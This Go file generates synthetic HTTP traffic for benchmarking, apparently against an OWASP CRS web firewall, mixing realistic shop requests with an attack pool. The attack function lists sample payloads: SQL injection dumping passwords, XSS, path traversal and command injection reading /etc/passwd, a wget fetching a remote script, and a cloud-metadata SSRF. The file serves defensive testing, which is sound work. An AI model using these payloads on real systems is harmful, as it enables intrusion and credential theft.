package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"strconv"
	"strings"
)

// request is one request as it goes over the wire.
type request struct {
	raw    []byte
	attack bool
}

// pool is what a load generator sends, one after the other and then from the start. No
// two requests in it are equal: ordinary traffic varies, and a cache that lives on
// repetition should not look good here.
type pool struct {
	name string // get, form, json, mix or attacks
	list []request
}

// variants is how many different requests of a kind there are.
const variants = 200

// hosts are the names that requests ask for.
func oneHost(int) string         { return "shop.example.com" }
func thousandHosts(i int) string { return fmt.Sprintf("service-%d.example.com", i%1000) }

// benign are the three requests that everything is measured with.
func benign() []pool {
	return []pool{
		newPool("get", variants, oneHost, (*author).get),
		newPool("form", variants, oneHost, (*author).form),
		newPool("json", variants, oneHost, (*author).json),
	}
}

// attackPool has nothing but attacks.
func attackPool() pool { return newPool("attack", variants, oneHost, (*author).attack) }

// mixed is 80 GET, 10 form and 5 JSON requests in a hundred, and 5 attacks or 5 more GET.
func mixed(name string, hundreds int, host func(int) string, attacks bool) pool {
	turn := func(a *author, i int) request {
		switch i % 20 {
		case 3, 13:
			return a.form(i)
		case 8:
			return a.json(i)
		case 18:
			if attacks {
				return a.attack(i)
			}
		}
		return a.get(i)
	}
	return newPool(name, 100*hundreds, host, turn)
}

func newPool(name string, n int, host func(int) string, write func(*author, int) request) pool {
	a := &author{Rand: rand.New(rand.NewPCG(20, 26))}
	p := pool{name: name}
	for i := range n {
		a.host = host(i)
		p.list = append(p.list, write(a, i))
	}
	return p
}

// save writes the pool in the form that wrk.lua reads: length, line end, request.
func (p pool) save(file string) error {
	var b strings.Builder
	for _, r := range p.list {
		fmt.Fprintf(&b, "%d\n%s", len(r.raw), r.raw)
	}
	return os.WriteFile(file, []byte(b.String()), 0o644)
}

// author writes requests, the same ones in every run.
type author struct {
	*rand.Rand
	host string
}

func (a *author) one(list []string) string { return list[a.IntN(len(list))] }

func (a *author) hex(digits int) string {
	var b strings.Builder
	for range digits {
		b.WriteByte("0123456789abcdef"[a.IntN(16)])
	}
	return b.String()
}

// prose is that many words.
func (a *author) prose(words int) string {
	list := make([]string, words)
	for i := range list {
		list[i] = a.one(proseWords)
	}
	return strings.ToUpper(list[0][:1]) + strings.Join(list, " ")[1:] + "."
}

func (a *author) name() string { return a.one(firstNames) + " " + a.one(lastNames) }

func (a *author) email() string {
	return strings.ToLower(a.one(firstNames)+"."+a.one(lastNames)) + strconv.Itoa(a.IntN(100)) + "@mail.example.com"
}

func (a *author) street() string { return fmt.Sprintf("%s %d", a.one(streets), 1+a.IntN(200)) }

// head is what a browser sends, up to the fields of a body.
func (a *author) head(method, target, accept string) string {
	browser := browsers[a.IntN(len(browsers))]
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\nConnection: keep-alive\r\n", method, target, a.host)
	if browser.hints != "" {
		fmt.Fprintf(&b, "sec-ch-ua: %s\r\nsec-ch-ua-mobile: ?0\r\nsec-ch-ua-platform: %s\r\n", browser.hints, browser.platform)
	}
	fmt.Fprintf(&b, "Upgrade-Insecure-Requests: 1\r\nUser-Agent: %s\r\nAccept: %s\r\n", browser.agent, accept)
	b.WriteString("Sec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-User: ?1\r\nSec-Fetch-Dest: document\r\n")
	fmt.Fprintf(&b, "Referer: http://%s/%s/%s\r\nAccept-Encoding: gzip, deflate, br\r\nAccept-Language: %s\r\n",
		a.host, a.one(sections), a.one(products), a.one(languages))
	fmt.Fprintf(&b, "Cookie: session_id=%s; theme=%s; visitor=GA1.2.%d.%d\r\n",
		a.hex(32), a.one(themes), 100000000+a.IntN(900000000), 1700000000+a.IntN(90000000))
	return b.String()
}

const acceptPage = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"

// get is a page view: full browser head, three arguments, three cookies.
func (a *author) get(int) request {
	q := fmt.Sprintf("/%s/%s?color=%s&page=%d&sort=%s", a.one(sections), a.one(products), a.one(colors), 1+a.IntN(40), a.one(orders))
	return request{raw: []byte(a.head("GET", q, acceptPage) + "\r\n")}
}

// form is a checkout of about 1 KB.
func (a *author) form(int) request {
	fields := [][2]string{
		{"name", a.name()}, {"email", a.email()}, {"street", a.street()}, {"city", a.one(cities)},
		{"postcode", strconv.Itoa(10000 + a.IntN(89999))}, {"country", a.one(countries)},
		{"phone", fmt.Sprintf("%d %d", 200+a.IntN(700), 1000000+a.IntN(8999999))},
		{"delivery", a.one(deliveries)}, {"newsletter", a.one([]string{"yes", "no"})},
		{"quantity", strconv.Itoa(1 + a.IntN(9))}, {"product", a.one(products)}, {"color", a.one(colors)},
		{"gift_note", a.prose(60)}, {"comment", a.prose(84)},
	}
	var parts []string
	for _, f := range fields {
		parts = append(parts, f[0]+"="+url.QueryEscape(f[1]))
	}
	return a.post("/checkout", acceptPage, "application/x-www-form-urlencoded", strings.Join(parts, "&"))
}

// json is an order of about 2 KB with some 90 values.
func (a *author) json(int) request {
	type object = map[string]any
	var items []object
	for range 7 {
		items = append(items, object{
			"sku": fmt.Sprintf("SH-%05d", a.IntN(100000)), "name": a.one(colors) + " " + a.one(products), "quantity": 1 + a.IntN(5),
			"description": a.prose(5),
			"price":       object{"amount": 990 + a.IntN(20000), "currency": "EUR"},
			"options":     object{"size": 36 + a.IntN(12), "gift": a.IntN(2) == 0},
			"tags":        []string{a.one(proseWords), a.one(proseWords)},
		})
	}
	body, err := json.Marshal(object{
		"order": object{
			"id": 10000 + a.IntN(90000), "created": fmt.Sprintf("2026-%02d-%02dT%02d:26:53Z", 1+a.IntN(12), 1+a.IntN(28), a.IntN(24)), "items": items,
			"shipping": object{"method": a.one(deliveries), "address": object{
				"name": a.name(), "street": a.street(), "city": a.one(cities), "postcode": strconv.Itoa(10000 + a.IntN(89999)), "country": a.one(countries),
			}},
		},
		"customer": object{"id": a.IntN(100000), "email": a.email(), "loyalty": object{"level": a.one([]string{"silver", "gold"}), "points": a.IntN(5000)}},
		"notes":    []string{a.prose(10), a.prose(9)},
		"consent":  object{"terms": true, "newsletter": a.IntN(2) == 0},
	})
	if err != nil {
		panic("BUG: " + err.Error()) // strings, numbers and booleans encode
	}
	return a.post("/api/orders", "application/json", "application/json", string(body))
}

func (a *author) post(target, accept, mediaType, body string) request {
	return request{raw: fmt.Appendf(nil, "%sOrigin: http://%s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s",
		a.head("POST", target, accept), a.host, mediaType, len(body), body)}
}

// attack is one of the classes that every installation of CRS stops.
func (a *author) attack(i int) request {
	n := strconv.Itoa(1 + a.IntN(99))
	payloads := []string{
		n + "' UNION SELECT username,password FROM users-- ",
		n + "' OR '" + n + "'='" + n,
		"<script>alert(" + n + ")</script>",
		"<img src=x onerror=alert(" + n + ")>",
		"../../../../etc/passwd",
		";cat /etc/passwd;echo " + n,
		"$(wget http://192.0.2." + n + "/x.sh)",
		"http://169.254.169.254/latest/meta-data/" + n,
	}
	payload := url.QueryEscape(payloads[(i/20+i)%len(payloads)])
	if i%4 == 1 {
		return mark(a.post("/search", acceptPage, "application/x-www-form-urlencoded", "page="+n+"&q="+payload))
	}
	return mark(request{raw: []byte(a.head("GET", "/search?page="+n+"&q="+payload, acceptPage) + "\r\n")})
}

func mark(r request) request {
	r.attack = true
	return r
}
